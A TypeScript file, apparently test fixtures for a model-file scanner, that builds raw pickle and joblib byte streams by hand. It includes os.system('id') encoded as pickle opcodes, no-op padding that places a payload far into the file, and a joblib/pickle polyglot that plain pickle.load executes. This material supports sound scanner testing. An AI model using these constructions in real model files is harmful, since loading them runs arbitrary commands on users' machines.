const b = (s: string): Buffer => Buffer.from(s, 'latin1');
const short = (s: string): Buffer => Buffer.concat([b('\x8c'), Buffer.from([s.length]), b(s)]);

/**
 * A joblib NumpyArrayWrapper built in place (STACK_GLOBAL, NEWOBJ, BUILD) for a one-dimensional array of `n`
 * elements spelled `typestr` (`'O8'` is an object array), as `joblib.dump` pickles it; with `alignment`, the
 * `numpy_array_alignment_bytes` field that makes joblib read a padding byte before the data.
 */
export function numpyArrayWrapper(typestr: string, n: number, alignment: boolean): Buffer {
  const object = typestr === 'O8';
  const count = Buffer.alloc(4);
  count.writeUInt32LE(n);
  return Buffer.concat([
    short('joblib.numpy_pickle'),
    short('NumpyArrayWrapper'),
    b('\x93)\x81}('),
    short('subclass'),
    short('numpy'),
    short('ndarray'),
    b('\x93'),
    short('shape'),
    b('J'),
    count,
    b('\x85'),
    short('order'),
    short('C'),
    short('dtype'),
    short('numpy'),
    short('dtype'),
    b('\x93'),
    short(typestr),
    b('\x89\x88\x87R(K\x03'),
    short(object ? '|' : '<'),
    b('NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK'),
    Buffer.from([object ? 0x3f : 0]),
    b('tb'),
    short('allow_mmap'),
    b(object ? '\x89' : '\x88'),
    ...(alignment ? [short('numpy_array_alignment_bytes'), b('K\x10')] : []),
    b('ub'),
  ]);
}

/**
 * At least `bytes` of opcodes that do nothing, in few of them: 64 KiB strings (BINUNICODE), each POPped. What a plain
 * `pickle.load` reads past a NumpyArrayWrapper before a payload, at a few hundred opcodes per MiB.
 */
export function noOpPadding(bytes: number): Buffer {
  const chunk = 64 * 1024;
  const one = Buffer.concat([Buffer.from([0x58]), Buffer.alloc(4), Buffer.alloc(chunk, 0x61), Buffer.from('0')]);
  one.writeUInt32LE(chunk, 1);
  return Buffer.concat(Array.from({ length: Math.ceil(bytes / one.length) }, () => one));
}

/** `os.system('id')` as protocol-2 opcodes that leave nothing on the stack (the result is POPped). */
export const SYSTEM_OPS = b('cos\nsystem\nX\x02\x00\x00\x00id\x85R0');

/**
 * A top-level joblib stream `{'w': <uint8 array>}` whose array data is `data`: joblib.load copies those bytes into
 * the array, a plain `pickle.load` (the wrapper built as an ordinary object) reads them as opcodes.
 */
export const joblibUint8Pickle = (data: Buffer): Buffer =>
  Buffer.concat([b('\x80\x04}'), short('w'), numpyArrayWrapper('u1', data.length, false), data, b('s.')]);
